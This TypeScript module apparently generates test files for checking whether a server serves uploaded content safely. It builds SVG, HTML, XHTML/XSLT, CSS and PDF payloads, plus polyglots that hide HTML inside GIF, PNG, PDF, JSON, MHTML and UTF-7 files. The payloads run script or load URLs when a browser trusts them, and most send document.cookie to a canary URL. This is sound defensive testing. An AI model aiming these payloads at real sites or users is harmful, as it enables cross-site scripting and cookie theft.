// Files that do something when a browser takes them for what they claim to be: run a script, load
// from elsewhere, go elsewhere. Each tells a canary, by its own name, when it succeeds.
import { onePixelPng } from './files.ts'
import { makePdf, writePdf } from './pdfs.ts'

export type ActiveFile = {
  /** What it asks the canary for. */
  name: string
  fileName: string
  mimeType: string
  bytes: Buffer
  /** As what a careless server would send it; '' is no type at all, so that the browser guesses. */
  carelessType: string
  /** Set where not even a careless server makes Chromium fall for it. */
  harmlessInChromium?: true
}

type Kind = Pick<ActiveFile, 'fileName' | 'mimeType' | 'carelessType'>

const asHtml: Kind = {
  fileName: 'page.html',
  mimeType: 'text/html',
  carelessType: 'text/html; charset=utf-8',
}
const asSvg: Kind = {
  fileName: 'picture.svg',
  mimeType: 'image/svg+xml',
  carelessType: 'image/svg+xml',
}
const asXml: Kind = {
  fileName: 'data.xml',
  mimeType: 'application/xml',
  carelessType: 'application/xml',
}
const asScript: Kind = {
  fileName: 'code.js',
  mimeType: 'text/javascript',
  carelessType: 'text/javascript',
}
const asPdf: Kind = {
  fileName: 'paper.pdf',
  mimeType: 'application/pdf',
  carelessType: 'application/pdf',
}

const xhtml = 'http://www.w3.org/1999/xhtml'
const svg = (inside: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" ${more}>${inside}</svg>`

/** `canaryUrl` is where the canary listens, without a slash at its end. */
export function makeActiveFiles(canaryUrl: string): ActiveFile[] {
  const parts = createParts(canaryUrl)
  const { withScript, withUrl } = parts
  return [
    ...makeDrawings(parts),
    ...makePages(parts),
    ...makeDocuments(parts),
    ...makeDisguises(parts),
    ...makePdfs(parts),
    withScript('js', asScript, (js) => js),
    withScript('js-module', asScript, (js) => `import.meta.url;${js}export default 1`),
    withUrl(
      'css-import',
      { fileName: 'look.css', mimeType: 'text/css', carelessType: 'text/css' },
      (url) => `@import url(${url});`,
    ),
  ]
}

type Parts = ReturnType<typeof createParts>

function createParts(canaryUrl: string) {
  const urlOf = (name: string) => `${canaryUrl}/${name}`
  /** Says that it ran, and which cookies it saw. */
  const scriptOf = (name: string) =>
    `console.log('canary ${name}');(function(){var c='';try{c=document.cookie}catch(e){}` +
    `new Image().src='${urlOf(name)}?cookies='+encodeURIComponent(c)})();`
  const file = (
    name: string,
    kind: Kind,
    content: string | Buffer,
    more: Partial<ActiveFile> = {},
  ): ActiveFile => ({ name, ...kind, bytes: Buffer.from(content), ...more })
  const withScript = (name: string, kind: Kind, write: (script: string) => string) =>
    file(name, kind, write(scriptOf(name)))
  const withUrl = (name: string, kind: Kind, write: (url: string) => string) =>
    file(name, kind, write(urlOf(name)))

  return { urlOf, scriptOf, file, withScript, withUrl }
}

function makeDrawings({ withScript, withUrl }: Parts): ActiveFile[] {
  return [
    withScript('svg-script', asSvg, (js) => svg(`<script><![CDATA[${js}]]></script>`)),
    withScript('svg-onload', asSvg, (js) => svg('', `onload="${js}"`)),
    withScript('svg-foreign-object', asSvg, (js) =>
      svg(`<foreignObject><img xmlns="${xhtml}" src="x:" onerror="${js}"/></foreignObject>`),
    ),
    withScript('svg-animate', asSvg, (js) =>
      svg(`<a href="#"><animate attributeName="href" dur="1s" onbegin="${js}"/></a>`),
    ),
    withUrl('svg-use', asSvg, (url) => svg(`<use href="${url}#a"/><image href="${url}"/>`)),
    withUrl('svg-import', asSvg, (url) => svg(`<style>@import url(${url});</style>`)),
  ]
}

function makePages({ file, urlOf, withScript, withUrl }: Parts): ActiveFile[] {
  return [
    withScript('html-script', asHtml, (js) => `<!doctype html><script>${js}</script>`),
    withScript('html-onerror', asHtml, (js) => `<img src="x:" onerror="${js}">`),
    withScript(
      'html-srcdoc',
      asHtml,
      (js) => `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`,
    ),
    withUrl('html-refresh', asHtml, (url) => `<meta http-equiv="refresh" content="0; url=${url}">`),
    withUrl(
      'html-form',
      asHtml,
      (url) => `<form action="${url}"></form><script>document.forms[0].submit()</script>`,
    ),
    withUrl('html-iframe', asHtml, (url) => `<iframe src="${url}"></iframe>`),
    withUrl('html-object', asHtml, (url) => `<object data="${url}"></object>`),
    file('html-base', asHtml, `<base href="${urlOf('')}"><img src="html-base">`),
    withUrl('html-stylesheet', asHtml, (url) => `<link rel="stylesheet" href="${url}">`),
    withUrl('html-module', asHtml, (url) => `<script type="module">import '${url}'</script>`),
    withUrl('html-preload', asHtml, (url) => `<link rel="preload" as="script" href="${url}">`),
    withUrl('html-video', asHtml, (url) => `<video poster="${url}" src="${url}" autoplay></video>`),
  ]
}

function makeDocuments({ withScript, withUrl }: Parts): ActiveFile[] {
  return [
    withScript(
      'xhtml',
      { ...asXml, fileName: 'page.xhtml', mimeType: 'application/xhtml+xml' },
      (js) => `<html xmlns="${xhtml}"><script>${js}</script></html>`,
    ),
    withScript(
      'xml-xslt',
      asXml,
      // Its own style sheet, found under the name it has with a careless server.
      (js) => `<?xml-stylesheet type="text/xsl" href="xml-xslt"?>
        <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
          <xsl:template match="/"><html><script>${js}</script></html></xsl:template>
        </xsl:stylesheet>`,
    ),
    withUrl('xml-css', asXml, (url) => `<?xml-stylesheet type="text/css" href="${url}"?><r/>`),
  ]
}

/** Pages and scripts that say they are something else. */
function makeDisguises({ file, scriptOf }: Parts): ActiveFile[] {
  const pageOf = (name: string) => `<!doctype html><script>${scriptOf(name)}</script>`
  const asText = { fileName: 'notes.txt', mimeType: 'text/plain' }
  const asBinary = { fileName: 'thing.bin', mimeType: 'application/x-thing' }
  const asGif = { fileName: 'dot.gif', mimeType: 'image/gif' }
  const asPng = { fileName: 'dot.png', mimeType: 'image/png' }
  const utf16 = Buffer.from(`\ufeff${pageOf('utf-16')}`, 'utf16le')
  return [
    file('html-as-text', { ...asText, carelessType: '' }, pageOf('html-as-text')),
    file('js-as-text', { ...asText, carelessType: 'text/plain' }, scriptOf('js-as-text')),
    file('html-as-binary', { ...asBinary, carelessType: '' }, pageOf('html-as-binary')),
    file(
      'html-as-json',
      { fileName: 'a.json', mimeType: 'application/json', carelessType: asHtml.carelessType },
      `{"a": "${pageOf('html-as-json').replaceAll('"', '\\"')}"}`,
    ),
    file(
      'mhtml',
      { fileName: 'saved.bin', mimeType: 'multipart/related', carelessType: 'text/html' },
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n` +
        `Content-Type: text/html\r\n\r\n${pageOf('mhtml')}\r\n--b--\r\n`,
    ),
    file(
      'html-in-gif',
      { ...asGif, carelessType: 'text/html' },
      `GIF89a\x01\0\x01\0\0\0\0!\xfe${pageOf('html-in-gif')}`,
    ),
    file('js-in-gif', { ...asGif, carelessType: '' }, `GIF89a/*\0*/=1;${scriptOf('js-in-gif')}`),
    file(
      'html-in-png',
      { ...asPng, carelessType: 'text/html' },
      Buffer.concat([Buffer.from(onePixelPng, 'base64'), Buffer.from(pageOf('html-in-png'))]),
    ),
    file('utf-16', { ...asBinary, carelessType: 'text/html' }, utf16),
    file(
      'utf-7',
      { ...asText, carelessType: 'text/html; charset=utf-7' },
      pageOf('utf-7').replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
      { harmlessInChromium: true },
    ),
  ]
}

function makePdfs({ file, scriptOf, urlOf }: Parts): ActiveFile[] {
  const action = (name: string, text: string) =>
    file(
      name,
      asPdf,
      writePdf([
        `<< /Type /Catalog /Pages 2 0 R /OpenAction << /Type /Action ${text} >> >>`,
        '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
      ]),
      { harmlessInChromium: true },
    )
  return [
    action(
      'pdf-script',
      `/S /JavaScript /JS (app.alert\\('canary'\\); app.launchURL\\('${urlOf('pdf-script')}'\\))`,
    ),
    action('pdf-uri', `/S /URI /URI (${urlOf('pdf-uri')})`),
    action('pdf-launch', `/S /Launch /F (${urlOf('pdf-launch')})`),
    file(
      'html-in-pdf',
      { ...asPdf, carelessType: 'text/html' },
      Buffer.concat([makePdf(), Buffer.from(`<script>${scriptOf('html-in-pdf')}</script>`)]),
    ),
  ]
}
